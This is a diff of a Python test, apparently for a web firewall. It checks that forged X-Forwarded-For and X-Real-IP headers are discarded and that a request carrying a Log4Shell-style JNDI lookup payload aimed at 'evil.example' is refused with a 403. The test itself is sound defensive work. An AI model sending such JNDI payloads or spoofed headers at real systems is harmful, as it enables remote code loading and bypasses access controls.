@@ -130,11 +130,13 @@ def test_the_door_does_the_same_for_what_is_compressed(
     request_started.connect(note)
     try:
         forged = {"X-Forwarded-For": "203.0.113.9", "X-Real-IP": "203.0.113.9"} | ASKED
-        assert visitor(address="127.0.0.2").get("/sign-in/", **forged).headers["Content-Encoding"] == "gzip"
+        assert (
+            visitor(address="127.0.0.2").ask("GET", "/sign-in/", headers=forged).headers["Content-Encoding"] == "gzip"
+        )
     finally:
         request_started.disconnect(note)
     assert [(each["HTTP_X_FORWARDED_FOR"], each.get("HTTP_X_REAL_IP", "")) for each in seen] == [("127.0.0.2", "")]
-    refused = visitor().get("/sign-in/", **{"X-Note": "${jndi:ldap://evil.example}"})
+    refused = visitor().ask("GET", "/sign-in/", headers={"X-Note": "${jndi:ldap://evil.example}"})
     assert (refused.is_refusal, refused.status) == (True, 403)
     assert "We did not let this through" in refused.text
     lines = [json.loads(line) for line in firewall.logs()["access.log"].splitlines()]
